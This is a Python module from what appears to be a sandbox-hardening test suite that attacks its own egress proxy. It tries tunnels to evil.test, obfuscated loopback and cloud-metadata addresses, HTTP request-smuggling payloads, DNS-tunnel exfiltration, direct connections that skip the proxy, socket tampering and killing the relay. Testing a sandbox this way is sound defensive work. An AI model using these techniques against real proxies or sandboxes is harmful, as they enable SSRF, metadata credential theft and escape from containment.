"""Tries to misuse the one door to the network: whom it may not reach, how it may not ask, and the socket itself."""

import glob
import os
import signal
import socket
import ssl
import struct
from collections.abc import Callable

from control_plane.sandboxes.hostile.programs.loot import Canaries, Loot, done, opens

PROXY = ("127.0.0.1", 3128)
DOOR = "/run/egress/egress.sock"


def _ask(data: bytes) -> bytes:
    with socket.create_connection(PROXY, 5) as one:
        one.settimeout(5)
        one.sendall(data)
        return one.recv(4096)


def _tunnel(target: str) -> bytes:
    return _ask(("CONNECT " + target + " HTTP/1.1\r\nHost: " + target + "\r\n\r\n").encode())


def _status(answer: bytes) -> str:
    return answer.split(b"\r\n", 1)[0].decode("latin-1")[:60]


def _opened(loot: Loot, what: str, ask: Callable[..., bytes], *arguments: object) -> None:
    """Count an answer of success as gained, and remember that it was asked: the outside must find it refused."""
    try:
        status = _status(ask(*arguments))
    except OSError as error:
        loot.tried[what] = str(error)
        return
    if " 2" in status[8:11]:
        loot.got[what] = status
    else:
        loot.tried[what] = status or "cut"
        loot.facts.setdefault("asked", []).append(what)


def _control(loot: Loot, canaries: Canaries) -> None:
    """A door that refuses everything proves nothing: the allowed name must open it."""
    loot.facts["door works"] = " 200 " in _status(_tunnel(canaries["allowed"])) + " "


def _tunnels(canaries: Canaries, targets: list[str]) -> Loot:
    loot = Loot()
    _control(loot, canaries)
    for target in targets:
        _opened(loot, target, _tunnel, target)
        plain = "GET http://" + target + "/ HTTP/1.1\r\nHost: " + target + "\r\nConnection: close\r\n\r\n"
        _opened(loot, "http " + target, _ask, plain.encode())
    return loot


def names_not_allowed(canaries: Canaries) -> Loot:
    allowed = canaries["allowed"].split(":")[0]
    targets = ["evil.test:443", "evil." + allowed + ":443", allowed + ".evil.test:443", "EVIL.test.:443"]
    return _tunnels(canaries, [*targets, "xn--evl-epa.test:443", "c2VjcmV0.evil.test:443"])


def addresses(canaries: Canaries) -> Loot:
    return _tunnels(canaries, ["1.1.1.1:443", "8.8.8.8:53", "93.184.216.34:80"])


def spelled_addresses(canaries: Canaries) -> Loot:
    """The same loopback and metadata addresses in every spelling that a resolver takes."""
    spelled = ["2130706433:443", "0x7f000001:443", "0177.0.0.1:443", "127.1:443", "0:443", "2852039166:80"]
    return _tunnels(canaries, [*spelled, "0xa9fea9fe:80", "0251.0376.0251.0376:80", "127.0.0.1.:443"])


def metadata(canaries: Canaries) -> Loot:
    return _tunnels(canaries, ["169.254.169.254:80", "169.254.170.2:80", "metadata.google.internal:80"])


def ipv6(canaries: Canaries) -> Loot:
    return _tunnels(
        canaries, ["[::1]:443", "[2606:4700:4700::1111]:443", "[::ffff:127.0.0.1]:443", "[fd00:ec2::254]:80"]
    )


def host_gateway(canaries: Canaries) -> Loot:
    port = str(canaries["tcp"][0])
    hosts = ["172.17.0.1", "10.0.2.2", "127.0.0.1", *canaries["addresses"]]
    return _tunnels(canaries, [host + ":" + port for host in hosts] + ["host.docker.internal:" + port])


def other_ports(canaries: Canaries) -> Loot:
    name = canaries["allowed"].split(":")[0]
    return _tunnels(canaries, [name + ":" + str(port) for port in (22, 25, 53, 2375, 3306, 5432, *canaries["tcp"])])


def wrong_server_name(canaries: Canaries) -> Loot:
    """An allowed name asked for, another in the handshake; the upstream must not hear a byte of it."""
    loot = Loot()
    _control(loot, canaries)
    for name in ("evil.test", "www.evil.test", ""):
        loot.attempt("server name " + (name or "none"), _handshake, canaries["allowed"], name)
        loot.facts.setdefault("asked", []).append(canaries["allowed"])
    loot.attempt("no handshake at all", _spoken, canaries["allowed"], b"GET / HTTP/1.0\r\n\r\n")
    loot.facts["asked"].append(canaries["allowed"])
    return loot


def _spoken(target: str, data: bytes) -> bytes:
    with socket.create_connection(PROXY, 5) as one:
        one.settimeout(5)
        one.sendall(("CONNECT " + target + " HTTP/1.1\r\nHost: " + target + "\r\n\r\n").encode())
        one.recv(4096)
        one.sendall(data)
        return one.recv(100)


def _handshake(target: str, name: str) -> bytes:
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    talk = context.wrap_bio(incoming, outgoing, server_hostname=name or None)
    try:
        talk.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return _spoken(target, outgoing.read())


def smuggled_requests(canaries: Canaries) -> Loot:
    loot = Loot()
    _control(loot, canaries)
    allowed = canaries["allowed"]
    begin = "GET http://" + allowed + "/ HTTP/1.1\r\nHost: " + allowed + "\r\n"
    tricks = {
        "host that differs": begin.replace("Host: " + allowed, "Host: evil.test") + "\r\n",
        "two lengths": begin + "Content-Length: 0\r\nContent-Length: 44\r\n\r\n",
        "length and chunks": begin + "Content-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nX",
        "name with a user": begin.replace("http://", "http://" + allowed + "@evil.test/") + "\r\n",
        "line end in the name": "CONNECT evil.test\n:443 HTTP/1.1\r\n\r\n",
        "unknown upstream": "GET /nobody/v1 HTTP/1.1\r\nHost: 127.0.0.1:3128\r\n\r\n",
        "path out of an upstream": "GET /model/../../x HTTP/1.1\r\nHost: 127.0.0.1:3128\r\n\r\n",
        "huge head": "GET http://" + allowed + "/ HTTP/1.1\r\nX: " + "a" * 200_000 + "\r\n\r\n",
    }
    for what, request in tricks.items():
        _opened(loot, what, _ask, request.encode())
    return loot


def secrets_in_names(canaries: Canaries) -> Loot:
    """A secret told by asking for names: each is answered by a sinkhole and told, or nobody is there to ask."""
    loot = Loot()
    _control(loot, canaries)
    for number, kind in enumerate((1, 16, 28, 10)):
        name = "c2VjcmV0" + str(number) + ".tunnel.test"
        loot.attempt("question " + str(kind), _outside, loot, name, kind)
    for server in ("1.1.1.1", "8.8.8.8"):
        loot.attempt("ask " + server, _outside, loot, "direct.tunnel.test", 16, server)
    return loot


def _outside(loot: Loot, name: str, kind: int, server: str = "127.0.0.1") -> str:
    """Return an answer that only somebody outside can have given."""
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    question = b"\x12\x34\1\0\0\1\0\0\0\0\0\0" + labels + b"\0" + struct.pack(">HH", kind, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.settimeout(2)
        one.sendto(question, (server, 53))
        answer = one.recv(512)
    loot.facts.setdefault("answered", []).append(name)
    records = struct.unpack(">H", answer[6:8])[0]
    return "" if not records or answer.endswith(b"\x7f\0\0\1") else answer[-40:].hex()


def direct_connections(canaries: Canaries) -> Loot:
    """Past the proxy. A connection that opens leads to the relay, which tells it and closes."""
    loot = Loot()
    _control(loot, canaries)
    if loot.on_host(canaries, "net"):
        return loot
    targets = [("1.1.1.1", 443), ("169.254.169.254", 80), ("10.0.0.1", 22), ("2606:4700:4700::1111", 443)]
    targets += [(host, port) for host in canaries["addresses"] for port in canaries["tcp"]]
    for host, port in targets:
        loot.attempt("connect " + host, _heard, loot, host, port)
    return loot


def _heard(loot: Loot, host: str, port: int) -> str:
    with socket.create_connection((host, port), 2) as one:
        loot.facts.setdefault("caught", []).append(host)
        one.settimeout(2)
        one.sendall(b"GET / HTTP/1.0\r\nHost: evil.test\r\n\r\n")
        answer = one.recv(200)
    return "" if b" 403 " in answer or not answer else answer.decode("latin-1")


def door_socket(canaries: Canaries) -> Loot:
    """The socket is who a run is: it cannot be removed, replaced or added to."""
    loot = Loot()
    _control(loot, canaries)
    folder = os.path.dirname(DOOR)
    loot.attempt("remove", done, os.unlink, DOOR)
    loot.attempt("rename", done, os.rename, DOOR, DOOR + ".old")
    loot.attempt("replace", done, os.replace, "/dev/null", DOOR)
    loot.attempt("new modes", done, os.chmod, DOOR, 0)
    for path in glob.glob(folder + "/*"):
        if path != DOOR:
            loot.attempt("write " + path, opens, path, os.O_WRONLY)
    loot.attempt("make", opens, folder + "/x", os.O_CREAT | os.O_WRONLY)
    loot.attempt("link", done, os.link, DOOR, "stolen.sock")
    loot.attempt("folder away", done, os.rename, folder, folder + ".old")
    for path in glob.glob(folder + "/../*/egress.sock"):
        if os.path.realpath(path) != os.path.realpath(DOOR):
            loot.attempt("another's " + path, opens, path)
    return loot


def killed_relay(canaries: Canaries) -> Loot:
    """Without the relay there is only the socket, which decides the same."""
    loot = Loot()
    _control(loot, canaries)
    if loot.on_host(canaries, "pid", "net"):
        return loot
    kept = (os.getpid(), os.getppid())
    for path in glob.glob("/proc/[0-9]*/cmdline"):
        pid = int(path.split("/")[2])
        with open(path, "rb") as file:
            words = file.read().split(b"\0")
        if any(word.endswith(b"relay.py") for word in words[:3]) and b"python" in words[0] and pid not in kept:
            loot.attempt("kill the relay", os.kill, pid, signal.SIGKILL)
    _opened(loot, "evil.test", _straight, b"CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n")
    _opened(loot, "1.1.1.1", _straight, b"CONNECT 1.1.1.1:443 HTTP/1.1\r\nHost: 1.1.1.1:443\r\n\r\n")
    return loot


def _straight(data: bytes) -> bytes:
    with socket.socket(socket.AF_UNIX) as one:
        one.settimeout(5)
        one.connect(DOOR)
        one.sendall(data)
        return one.recv(4096)
